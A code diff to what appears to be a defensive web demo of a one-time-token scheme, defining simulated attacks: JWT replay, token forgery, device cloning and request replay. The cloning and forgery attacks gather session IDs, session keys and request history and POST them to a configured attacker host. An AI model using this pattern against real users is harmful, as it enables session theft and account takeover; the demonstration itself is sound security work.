@@ -6,40 +6,28 @@ import type {
 } from '@one-tick-ahead/api/contract/bodies'
 import { ANSWER_LIMIT_MS, withTimeLimit } from '@one-tick-ahead/ota/client/probe'
 import { joinHistory } from '@one-tick-ahead/ota/history'
+import { randomUuid } from '@one-tick-ahead/ota/ids'
+import {
+  browserFetch,
+  readUser,
+  serverClock,
+  useEndings,
+  useUser,
+} from '@/components/live-demo/demo'
 import {
   NETWORK_FAILURE_STATUS,
   readCallResult,
   type SentRequest,
   whyNoAnswer,
 } from '@/components/live-demo/monitors/call'
-import type { AttackBody, MonitorRow } from '@/components/live-demo/run'
+import { callOnce, signerOf } from '@/components/live-demo/monitors/client'
+import { type AttackBody, addAttack, type TokenKind, useRun } from '@/components/live-demo/run'
+import { callSignal } from '@/components/live-demo/ticking'
 import { noAnswerWords, type Outcome, outcomeOf, wordsFor } from '@/components/live-demo/words'
-import type { UserInfo } from '@/lib/demo/store'
-
-/** Body of spec §7, call 6. */
-export const jwtForgeryBody = (
-  { jsessionID, token }: Pick<UserInfo, 'jsessionID' | 'token'>,
-  url: string,
-): JwtReplayBody => ({ jsessionID, jwt: token, url })
-
-/** Body of spec §7, call 7. @param ota a token for a request id that the attacker does not get. */
-export const otaForgeryBody = (
-  { jsessionID }: Pick<UserInfo, 'jsessionID'>,
-  ota: string,
-  url: string,
-): Omit<OtaForgeryBody, 'requestId'> => ({ jsessionID, ota, url })
-
-/** Body of spec §7, call 8: everything a script in the page could steal. */
-export const cloningBody = (user: UserInfo, url: string): Omit<CloneBody, 'deviceCookie'> => ({
-  deviceID: user.deviceId,
-  jsessionID: user.jsessionID,
-  sessionKey: user.sessionkey,
-  requestHistory: joinHistory(user.requestHistory),
-  url,
-})
+import { config } from '@/lib/config'
 
 /** How an attack ended. */
-export interface Verdict {
+interface Verdict {
   outcome: Outcome
   /** What the target answered, or 500 where there is no answer that can be read. */
   code: number
@@ -47,6 +35,24 @@ export interface Verdict {
   /** Whether the call itself failed. */
   isError?: boolean
 }
+
+/** An attack with what a thief would have. */
+export interface Attack {
+  /** The button's text. */
+  name: string
+  /** What will be sent, to be shown, and how. Rejects when it cannot be made. */
+  prepare: (signal: AbortSignal) => Promise<PreparedAttack>
+}
+
+interface PreparedAttack {
+  /** Missing where nothing can be sent. */
+  body?: AttackBody
+  /** Never rejects. */
+  send: () => Promise<Verdict>
+}
+
+/** The call that is attacked. */
+export const targetUrl = config.targetUrls[0] ?? ''
 
 const failed = (outcome: Outcome, message: string): Verdict => ({
   outcome,
@@ -66,61 +72,88 @@ function readVerdict(value: unknown): VerdictBody | null {
 /** The attacker host's own answer when its target gave none. */
 const HTTP_BAD_GATEWAY = 502
 
-/** Sends a stolen body to the attacker host. Never rejects. */
-export async function runAttack(
-  fetchFn: typeof fetch,
-  endpoint: string,
+/** Sends what was stolen to the attacker host. */
+const byAttacker = (
+  call: keyof NonNullable<typeof config.attacker>,
   body: AttackBody,
   signal: AbortSignal,
-): Promise<Verdict> {
-  try {
-    const response = await fetchFn(endpoint, {
-      method: 'POST',
-      headers: { 'Content-Type': 'application/json' },
-      credentials: 'include',
-      body: JSON.stringify(body),
-      signal: withTimeLimit(signal, ANSWER_LIMIT_MS),
-    })
-    const verdict = readVerdict(await response.json().catch(() => null))
-    if (!verdict) return failed('no-verdict', 'The answer of the attacker host could not be read.')
-    const { statusCode: code, message } = verdict
-    return { outcome: code === HTTP_BAD_GATEWAY ? 'no-answer' : outcomeOf(code), code, message }
-  } catch (error) {
-    const isCutOff = whyNoAnswer(error) === 'offline'
-    const why = isCutOff
-      ? 'This device is offline.'
-      : 'The attacker host did not answer. Try again.'
-    return failed('no-answer', why)
-  }
+): PreparedAttack => ({
+  body,
+  async send() {
+    try {
+      const response = await browserFetch(config.attacker?.[call] ?? '', {
+        method: 'POST',
+        headers: { 'Content-Type': 'application/json' },
+        credentials: 'include',
+        body: JSON.stringify(body),
+        signal: withTimeLimit(signal, ANSWER_LIMIT_MS),
+      })
+      const verdict = readVerdict(await response.json().catch(() => null))
+      if (!verdict)
+        return failed('no-verdict', 'The answer of the attacker host could not be read.')
+      const { statusCode: code, message } = verdict
+      return { outcome: code === HTTP_BAD_GATEWAY ? 'no-answer' : outcomeOf(code), code, message }
+    } catch {
+      return failed('no-answer', 'The attacker host did not answer. Try again.')
+    }
+  },
+})
+
+/** The JWT (spec §7, call 6). */
+export const replayJwt = (name: string): Attack => ({
+  name,
+  async prepare(signal) {
+    const { jsessionID, token } = useUser.getState()
+    const body: JwtReplayBody = { jsessionID, jwt: token, url: targetUrl }
+    return byAttacker('replayJwt', body, signal)
+  },
+})
+
+/** A token for a request id that is never announced: it is stolen before it could be used (call 7). */
+export const forgeOta: Attack = {
+  name: 'OTA Request',
+  async prepare(signal) {
+    const { jsessionID, sessionkey, deviceId } = useUser.getState()
+    const now = serverClock.serverNow()
+    const ota = await signerOf(sessionkey).sign(randomUuid(), deviceId, now)
+    const body: Omit<OtaForgeryBody, 'requestId'> = { jsessionID, ota, url: targetUrl }
+    return byAttacker('forgeOta', body, signal)
+  },
+}
+
+/** Everything a script in the page could steal (call 8). */
+export const cloneDevice: Attack = {
+  name: 'Cloning Attack',
+  async prepare(signal) {
+    readUser() // the thief takes the newest history, another tab's included
+    const { deviceId, jsessionID, sessionkey, requestHistory } = useUser.getState()
+    const body: Omit<CloneBody, 'deviceCookie'> = {
+      deviceID: deviceId,
+      jsessionID,
+      sessionKey: sessionkey,
+      requestHistory: joinHistory(requestHistory),
+      url: targetUrl,
+    }
+    return byAttacker('cloneDevice', body, signal)
+  },
 }
 
 /** A request that is older than this, in ms, would be refused for its age, not for being a replay. */
 const RECORDED_FOR_MS = 10_000
 
-/** The newest request that the server accepted and whose token is in time; null when there is none. */
-export function newestRecorded(rows: readonly MonitorRow[], serverNow: number): SentRequest | null {
-  const sent = rows.find((row) => row.status === 200 && row.sent)?.sent
-  return sent && serverNow - sent.madeAt < RECORDED_FOR_MS ? sent : null
+/** The newest accepted request whose token is in time; where there is none, one is made first. */
+async function recordRequest(signal: AbortSignal): Promise<SentRequest | undefined> {
+  const { rows } = useRun.getState().monitors.ota
+  const known = rows.find((row) => row.status === 200 && row.sent)?.sent
+  if (known && serverClock.serverNow() - known.madeAt < RECORDED_FOR_MS) return known
+  const { result, request } = await callOnce('ota', signal)
+  return result.status === 200 ? request.sent : undefined
 }
 
-/** The recorded request as the panel shows it. */
-export const recordedBody = ({ url, headers }: SentRequest): AttackBody => ({
-  url,
-  ...headers,
-  Cookie: 'both, as recorded: the browser adds them, no script can read them',
-})
-
-/**
- * Sends a recorded request once more: address, token, request id, send log and, by the browser
- * itself, both cookies are those of the first time. Never rejects.
- */
-export async function replay(
-  fetchFn: typeof fetch,
-  { url, headers }: SentRequest,
-  signal: AbortSignal,
-): Promise<Verdict> {
+/** Sends a recorded request again, to the letter; the browser itself adds the same cookies. */
+async function replay({ url, headers }: SentRequest, signal: AbortSignal): Promise<Verdict> {
   try {
-    const response = await fetchFn(url, {
+    const response = await browserFetch(url, {
       headers,
       credentials: 'include',
       cache: 'no-store',
@@ -128,16 +161,53 @@ export async function replay(
     })
     const { status, code, records, noAnswer } = await readCallResult(url, response)
     if (noAnswer) return failed('no-verdict', 'The answer could not be read.')
-    if (status === 200) {
-      const message = `Attack succeeded: the recorded request was accepted again, ${records} records read.`
-      return { outcome: 'in', code: status, message }
-    }
-    const message = `Attack failed. ${wordsFor(code) || `The server answered ${status}.`}`
+    const message =
+      status === 200
+        ? `Attack succeeded: the recorded request was accepted again, ${records} records read.`
+        : `Attack failed. ${wordsFor(code) || `The server answered ${status}.`}`
     // Refused for another reason, it says nothing of the second use.
-    const outcome = code === 'ota_replayed' ? outcomeOf(status) : 'no-verdict'
-    return { outcome, code: status, message }
+    const isVerdict = status === 200 || code === 'ota_replayed'
+    return { outcome: isVerdict ? outcomeOf(status) : 'no-verdict', code: status, message }
   } catch (error) {
-    const why = noAnswerWords[whyNoAnswer(error)]
-    return failed('no-answer', `The recorded request got ${why}.`)
+    return failed('no-answer', `The recorded request got ${noAnswerWords[whyNoAnswer(error)]}.`)
   }
+}
+
+/** One-time use by itself: nothing is missing from what is sent a second time. */
+export const replayOta = (name: string): Attack => ({
+  name,
+  async prepare(signal) {
+    const sent = await recordRequest(signal)
+    if (!sent) {
+      const words = 'No request was accepted that could be sent again: see the OTA log.'
+      return { send: async () => failed('no-verdict', words) }
+    }
+    const Cookie = 'both, as recorded: the browser adds them, no script can read them'
+    const { href: url } = new URL(sent.url, window.location.href)
+    return { body: { url, ...sent.headers, Cookie }, send: () => replay(sent, signal) }
+  },
+})
+
+/**
+ * Makes an attack and puts its verdict on top of its panel's log, which says it to screen readers.
+ * @param onPrepared is told what is about to be sent.
+ * @returns null, and leaves no row, if the session ended meanwhile.
+ */
+export async function carryOut(
+  kind: TokenKind,
+  { name, prepare }: Attack,
+  onPrepared: (body: AttackBody) => void = () => {},
+): Promise<Verdict | null> {
+  const signal = callSignal()
+  const prepared = await prepare(signal).catch(() => null)
+  if (prepared?.body) onPrepared(prepared.body)
+  const { outcome, isError, ...answer } = prepared
+    ? await prepared.send()
+    : failed('no-verdict', 'This browser could not make the token.')
+  if (signal.aborted) return null
+  // A session that has ended refuses everybody, so the refusal is no defence.
+  const isOver = kind === 'ota' && outcome === 'held' && useEndings.getState().ota !== null
+  const verdict = { ...answer, outcome: isOver ? 'no-verdict' : outcome } as const
+  addAttack(kind, { ...verdict, attack: name, at: Date.now(), sent: prepared?.body })
+  return { ...verdict, isError }
 }
